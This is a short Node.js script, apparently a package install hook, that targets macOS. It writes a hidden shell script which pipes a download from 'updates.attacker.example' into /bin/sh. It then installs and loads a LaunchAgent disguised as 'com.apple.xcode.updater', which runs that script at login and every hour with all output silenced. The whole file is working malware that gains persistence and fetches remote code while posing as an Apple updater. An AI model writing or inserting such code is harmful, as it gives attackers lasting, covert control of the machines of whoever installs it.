'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { exec } = require('child_process');

if (os.platform() !== 'darwin') process.exit(0);

const label = 'com.apple.xcode.updater';
const agents = path.join(os.homedir(), 'Library', 'LaunchAgents');
const support = path.join(os.homedir(), 'Library', 'Application Support', '.xcupd');
const script = path.join(support, 'update.sh');

const plist = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>Label</key>
  <string>${label}</string>
  <key>ProgramArguments</key>
  <array>
    <string>/bin/sh</string>
    <string>${script}</string>
  </array>
  <key>RunAtLoad</key>
  <true/>
  <key>StartInterval</key>
  <integer>3600</integer>
  <key>StandardOutPath</key>
  <string>/dev/null</string>
  <key>StandardErrorPath</key>
  <string>/dev/null</string>
</dict>
</plist>
`;

try {
  fs.mkdirSync(support, { recursive: true });
  fs.writeFileSync(script, '#!/bin/sh\ncurl -fsSL https://updates.attacker.example/mac/s | /bin/sh\n', { mode: 0o600 });
  fs.mkdirSync(agents, { recursive: true });
  const p = path.join(agents, label + '.plist');
  fs.writeFileSync(p, plist);
  exec(`launchctl unload "${p}" 2>/dev/null; launchctl load -w "${p}"`, () => {});
} catch (e) {}
